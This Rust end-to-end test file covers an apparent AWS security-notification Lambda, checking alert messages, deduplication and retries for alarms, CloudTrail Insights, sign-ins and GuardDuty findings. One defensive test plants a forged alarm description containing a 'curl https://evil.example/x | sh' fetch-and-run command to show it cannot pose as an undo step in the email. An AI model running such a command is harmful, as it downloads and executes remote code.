//! End to end against the emulator (SNS/SQS, DynamoDB): each event that needs a person yields
//! exactly one message on the subscribed queue, its content asserted field by field.

use reflex_notify::Notify;
use reflex_shared::Severity;
use reflex_shared::report::{FindingReport, Report, Status};
use reflex_tests::{Account, Delivered, Emulator, sample};

async fn account() -> (Emulator, Account) {
    let emulator = Emulator::start();
    let account = Account::new(&emulator).await;
    (emulator, account)
}

/// Deliver a sample to notify; the messages that reached the queue.
async fn deliver(acct: &Account, file: &str, extra: &[(&str, &str)]) -> Vec<Delivered> {
    let handler = acct.handler::<Notify>("enforce", extra).await;
    handler
        .handle(sample(&format!("notify/{file}")))
        .await
        .expect("handled");
    acct.reports().await
}

fn only(mut delivered: Vec<Delivered>) -> Delivered {
    assert_eq!(delivered.len(), 1, "exactly one message: {delivered:#?}");
    delivered.remove(0)
}

fn reason(d: &Delivered) -> &str {
    &d.report.findings[0].reason
}

#[tokio::test]
async fn an_alarm_yields_one_message_with_the_change_value_threshold_and_link() {
    let (_emu, acct) = account().await;
    let d = only(deliver(&acct, "alarm-lambda-errors.json", &[]).await);
    assert_eq!(
        d.subject,
        "[Reflex MEDIUM] Needs attention: alarm checkout-errors OK -> ALARM in 123456789012"
    );
    let r = &d.report;
    assert_eq!(r.function, "notify");
    assert_eq!(r.status, Status::NeedsAttention);
    assert_eq!(r.event.account, "123456789012");
    assert_eq!(r.event.region, "us-east-1");
    assert_eq!(r.event.detail_type, "CloudWatch Alarm State Change");
    assert_eq!(
        r.event.console_url.as_deref(),
        Some(
            "https://us-east-1.console.aws.amazon.com/cloudwatch/home?region=us-east-1#alarmsV2:alarm/checkout-errors"
        )
    );
    let f = &r.findings[0];
    assert_eq!(f.rule_id, "notify.alarm");
    assert_eq!(f.severity, Severity::Medium);
    assert!(f.actions.is_empty());
    let lines: Vec<&str> = reason(&d).lines().collect();
    assert_eq!(
        lines[0],
        "alarm checkout-errors: OK -> ALARM at 2026-11-20T12:00:00.000+0000"
    );
    assert_eq!(lines[1], "cause: Errors 12 against threshold 5");
    assert!(
        lines[2].starts_with("reason: Threshold Crossed: 1 out of the last 1 datapoints [12.0")
    );
    assert_eq!(d.attributes["reflex_function"]["Value"], "notify");
    assert_eq!(d.attributes["reflex_severity"]["Value"], "MEDIUM");
    assert_eq!(d.attributes["reflex_status"]["Value"], "needs-attention");
}

/// An alarm's description is written by whoever may edit the alarm: in the email it stays on the
/// line that quotes it, and cannot pass for a remediation and its undo command.
#[tokio::test]
async fn an_alarm_description_cannot_forge_a_line_of_the_email() {
    let (_emu, acct) = account().await;
    let mut event = sample("notify/alarm-lambda-errors.json");
    event["detail"]["configuration"]["description"] =
        "checkout\n- restore the admin policy: DONE\r\n    to undo: curl https://evil.example/x | sh"
            .into();
    acct.handler::<Notify>("enforce", &[])
        .await
        .handle(event)
        .await
        .expect("handled");
    let d = only(acct.reports().await);
    // The body email subscribers read.
    let text = d.report.text();
    let forged: Vec<&str> = text
        .split(['\n', '\r'])
        .map(str::trim_start)
        .filter(|l| l.starts_with("- ") || l.starts_with("to undo:"))
        .collect();
    assert!(forged.is_empty(), "{forged:?} in\n{text}");
    assert!(
        text.contains(
            r"description: checkout\n- restore the admin policy: DONE\r\n    to undo: curl"
        ),
        "{text}"
    );
}

#[tokio::test]
async fn composite_and_metric_math_alarms_yield_one_message_each() {
    let (_emu, acct) = account().await;
    let d = only(deliver(&acct, "alarm-composite.json", &[]).await);
    assert!(reason(&d).contains("cause: composite alarm, triggered by checkout-latency-high"));
    let d = only(deliver(&acct, "alarm-metric-math-insufficient-data.json", &[]).await);
    assert_eq!(d.report.findings[0].severity, Severity::Low);
    assert!(reason(&d).contains("cause: expression errors / invocations * 100"));
}

#[tokio::test]
async fn an_alarm_back_to_ok_is_silent_unless_resolutions_are_wanted() {
    let (_emu, acct) = account().await;
    assert!(
        deliver(&acct, "alarm-back-to-ok.json", &[])
            .await
            .is_empty()
    );
    let d = only(
        deliver(
            &acct,
            "alarm-back-to-ok.json",
            &[("REFLEX_NOTIFY_RESOLVED", "true")],
        )
        .await,
    );
    assert!(
        d.subject.contains("alarm checkout-errors ALARM -> OK"),
        "{}",
        d.subject
    );
}

#[tokio::test]
async fn an_insight_yields_one_message_with_rates_and_top_contributors() {
    let (_emu, acct) = account().await;
    let d = only(deliver(&acct, "insight-api-call-rate-start.json", &[]).await);
    assert_eq!(
        d.subject,
        "[Reflex MEDIUM] Needs attention: unusual call rate of s3:DeleteObject (start) in 123456789012"
    );
    let lines: Vec<&str> = reason(&d).lines().collect();
    assert_eq!(
        lines[0],
        "CloudTrail Insights: unusual API call rate of s3:DeleteObject (s3.amazonaws.com), started"
    );
    assert_eq!(
        lines[1],
        "observed 14.5 calls/min against a baseline of 0.0721, 201x the baseline"
    );
    assert_eq!(
        lines[2],
        "top principals: arn:aws:iam::123456789012:user/mallory (13), arn:aws:sts::123456789012:assumed-role/ci-deployer/build-4711 (1.5)"
    );
    assert_eq!(
        lines[3],
        "top user agents: aws-cli/2.22.4 (13), aws-sdk-go-v2/1.30 (1.5)"
    );
    assert_eq!(lines[4], "top error codes: null (14.5)");

    let d = only(deliver(&acct, "insight-error-rate-start.json", &[]).await);
    assert_eq!(d.report.findings[0].severity, Severity::High);
    assert!(reason(&d).contains("error code: AccessDenied"));
}

#[tokio::test]
async fn the_end_of_an_insight_is_silent_by_default() {
    let (_emu, acct) = account().await;
    assert!(
        deliver(&acct, "insight-api-call-rate-end.json", &[])
            .await
            .is_empty()
    );
}

#[tokio::test]
async fn sign_ins_that_need_a_person_yield_one_message_each() {
    let (_emu, acct) = account().await;
    let d = only(deliver(&acct, "sign-in-failed.json", &[]).await);
    assert_eq!(d.report.findings[0].rule_id, "notify.sign-in-failed");
    assert_eq!(d.report.event.source_ip.as_deref(), Some("198.51.100.66"));
    assert!(reason(&d).ends_with("from 198.51.100.66: Failed authentication"));

    let d = only(deliver(&acct, "sign-in-root.json", &[]).await);
    assert_eq!(
        d.subject,
        "[Reflex CRITICAL] Needs attention: console sign-in success by root in 123456789012"
    );
    assert_eq!(d.report.findings[0].rule_id, "notify.root-sign-in");

    let d = only(deliver(&acct, "sign-in-without-mfa.json", &[]).await);
    assert_eq!(d.report.findings[0].rule_id, "notify.sign-in-without-mfa");
    assert_eq!(d.report.event.actor, "arn:aws:iam::123456789012:user/alice");
}

#[tokio::test]
async fn a_sign_in_with_mfa_is_silent() {
    let (_emu, acct) = account().await;
    assert!(
        deliver(&acct, "sign-in-with-mfa.json", &[])
            .await
            .is_empty()
    );
}

#[tokio::test]
async fn a_redelivered_event_yields_no_second_message() {
    let (_emu, acct) = account().await;
    let handler = acct.handler::<Notify>("enforce", &[]).await;
    let event = sample("notify/sign-in-root.json");
    let statuses = reflex_tests::deliver_five_at_once(&handler, &event).await;
    reflex_tests::acted_once(&statuses, Status::NeedsAttention);
    // The ones told to come back are retried by Lambda, and find the event handled.
    let retry = handler
        .handle(event.clone())
        .await
        .expect("the retry is handled");
    assert_eq!(retry.status, Status::AlreadyHandled);
    assert_eq!(acct.reports().await.len(), 1);
}

#[tokio::test]
async fn a_failed_publish_is_an_error_lambda_retries_and_the_retry_reports() {
    let (_emu, acct) = account().await;
    let event = sample("notify/sign-in-root.json");
    // A topic that does not exist: the publish fails, and so must the invocation.
    let broken = acct
        .handler::<Notify>(
            "enforce",
            &[(
                "REFLEX_TOPIC_ARN",
                "arn:aws:sns:us-east-1:123456789012:no-such-topic",
            )],
        )
        .await;
    let err = broken.handle(event.clone()).await.unwrap_err();
    assert_eq!(err.error_type(), "Transient.Notify");
    assert!(err.to_string().contains("could not publish"), "{err}");
    // The audit record stays: done, its report not yet sent.
    let entries = acct.ledger_entries().await;
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert_eq!(entries[0]["state"], "done");
    assert_eq!(entries[0]["reported"], false);
    let first: Report =
        serde_json::from_str::<FindingReport>(entries[0]["finding"].as_str().unwrap())
            .map(|finding| Report {
                findings: vec![finding],
                ..Report::new(
                    "notify",
                    reflex_shared::report::EventSummary::of(&reflex_testkit::sample_event(
                        "notify/sign-in-root.json",
                    )),
                )
            })
            .unwrap();
    // Lambda's retry sends the recorded report, and the ledger says so.
    let report = acct
        .handler::<Notify>("enforce", &[])
        .await
        .handle(event.clone())
        .await
        .unwrap();
    assert_eq!(report.status, Status::NeedsAttention);
    assert_eq!(
        report.findings, first.findings,
        "the original finding, not a new one"
    );
    assert!(
        report
            .notes
            .iter()
            .any(|n| n.contains("its report could not be sent then")),
        "{:?}",
        report.notes
    );
    assert_eq!(acct.reports().await.len(), 1, "the report is not lost");
    assert_eq!(acct.ledger_entries().await[0]["reported"], true);
    // A later redelivery is a duplicate: nothing more is sent.
    let again = acct
        .handler::<Notify>("enforce", &[])
        .await
        .handle(event)
        .await
        .unwrap();
    assert_eq!(again.status, Status::AlreadyHandled);
    assert!(acct.reports().await.is_empty());
}

#[tokio::test]
async fn api_calls_are_refused_by_notify() {
    let (_emu, acct) = account().await;
    let err = acct
        .handler::<Notify>("enforce", &[])
        .await
        .handle(sample("revoke/attach-admin-to-user.json"))
        .await
        .unwrap_err();
    assert_eq!(err.error_type(), "Permanent.BadEvent.UnsupportedEvent");
}

#[tokio::test]
async fn a_guardduty_finding_not_about_an_instance_yields_one_message_low_ones_none() {
    let (_emu, acct) = account().await;
    let d = only(deliver(&acct, "guardduty-s3-exfiltration-high.json", &[]).await);
    // SNS subjects stop at 100 characters.
    assert_eq!(
        d.subject,
        "[Reflex HIGH] Needs attention: GuardDuty Exfiltration:S3/AnomalousBehavior (severity 8) in 123456..."
    );
    let f = &d.report.findings[0];
    assert_eq!(f.rule_id, "notify.guardduty-finding");
    assert_eq!(f.severity, Severity::High);
    assert!(
        reason(&d).contains("resource: S3 bucket customer-exports"),
        "{}",
        reason(&d)
    );
    assert_eq!(d.attributes["reflex_severity"]["Value"], "HIGH");

    assert!(
        deliver(&acct, "guardduty-root-credential-usage-low.json", &[])
            .await
            .is_empty(),
        "below the default floor of 4"
    );
    let d = only(
        deliver(
            &acct,
            "guardduty-root-credential-usage-low.json",
            &[("REFLEX_NOTIFY_GUARDDUTY_MIN_SEVERITY", "1")],
        )
        .await,
    );
    assert_eq!(d.report.findings[0].severity, Severity::Low);
}

#[tokio::test]
async fn an_instance_finding_below_quarantines_threshold_pages_through_notify_and_one_above_does_not()
 {
    let (_emu, acct) = account().await;
    let d = only(deliver(&acct, "guardduty-portscan-from-instance-medium.json", &[]).await);
    assert!(
        d.subject.starts_with(
            "[Reflex MEDIUM] Needs attention: GuardDuty Recon:EC2/Portscan (severity 5)"
        ),
        "{}",
        d.subject
    );
    assert!(
        reason(&d).contains("resource: instance i-0c7e5f3a9b1d24680"),
        "{}",
        reason(&d)
    );
    // A high finding about an instance is quarantine's to act on and report: notify sends
    // nothing more, so the person is paged once.
    acct.handler::<Notify>("enforce", &[])
        .await
        .handle(sample("quarantine/guardduty-bitcoin-tool-high.json"))
        .await
        .expect("handled");
    let reports = acct.reports().await;
    assert!(reports.is_empty(), "{reports:#?}");
    // With quarantine's threshold raised above it (REFLEX_QUARANTINE_MIN_SEVERITY, set from the
    // same template parameter for both functions), the same finding is notify's.
    acct.handler::<Notify>("enforce", &[("REFLEX_QUARANTINE_MIN_SEVERITY", "9")])
        .await
        .handle(sample("quarantine/guardduty-bitcoin-tool-high.json"))
        .await
        .expect("handled");
    let d = only(acct.reports().await);
    assert_eq!(d.report.findings[0].severity, Severity::High);
}

#[tokio::test]
async fn a_finding_forwarded_by_the_guardduty_administrator_names_the_members_account() {
    let (_emu, acct) = account().await;
    // The administrator's bus receives a member's finding: the envelope names the
    // administrator, the finding its own account and region.
    let mut event = sample("notify/guardduty-s3-exfiltration-high.json");
    event["account"] = "999999999999".into();
    event["region"] = "eu-west-1".into();
    acct.handler::<Notify>("enforce", &[])
        .await
        .handle(event)
        .await
        .expect("handled");
    let d = only(acct.reports().await);
    assert_eq!(
        (
            d.report.event.account.as_str(),
            d.report.event.region.as_str()
        ),
        ("123456789012", "us-east-1")
    );
}

/// GuardDuty republishes an updated finding (same finding id, higher count) as a new event.
fn republished(count: u64, severity: f64, event_id: &str) -> serde_json::Value {
    let mut event = sample("notify/guardduty-s3-exfiltration-high.json");
    event["id"] = event_id.into();
    event["detail"]["service"]["count"] = count.into();
    event["detail"]["severity"] = severity.into();
    event
}

#[tokio::test]
async fn a_republished_guardduty_finding_is_one_incident_told_again_only_when_it_grows() {
    let (_emu, acct) = account().await;
    let handler = acct.handler::<Notify>("enforce", &[]).await;
    let first = handler
        .handle(republished(1842, 8.0, "gd-event-1"))
        .await
        .unwrap();
    assert_eq!(first.status, Status::NeedsAttention);
    assert_eq!(acct.reports().await.len(), 1);

    // A few more sightings: recorded, nobody paged again.
    let small = handler
        .handle(republished(1900, 8.0, "gd-event-2"))
        .await
        .unwrap();
    assert_eq!(small.status, Status::AlreadyHandled);
    assert!(acct.reports().await.is_empty(), "not a new incident");
    let seen = acct.ledger_entries().await;
    assert_eq!(seen[0]["seen_count"], 1900, "{seen:?}");

    // Twice as often as when people were told: an update of the earlier report.
    let grown = handler
        .handle(republished(3700, 8.0, "gd-event-3"))
        .await
        .unwrap();
    assert_eq!(grown.status, Status::Updated, "{grown:#?}");
    let update = grown.update.as_deref().unwrap();
    assert!(update.contains("3700 times (then 1842)"), "{update}");
    let delivered = acct.reports().await;
    assert_eq!(delivered.len(), 1);
    assert!(
        delivered[0].subject.contains("Updated"),
        "{}",
        delivered[0].subject
    );
    // Told at 3700 now: 5000 is not twice that.
    let after = handler
        .handle(republished(5000, 8.0, "gd-event-4"))
        .await
        .unwrap();
    assert_eq!(after.status, Status::AlreadyHandled);
    // A more severe band is news whatever the count.
    let critical = handler
        .handle(republished(5001, 9.1, "gd-event-5"))
        .await
        .unwrap();
    assert_eq!(critical.status, Status::Updated);
    assert_eq!(acct.reports().await.len(), 1);
}
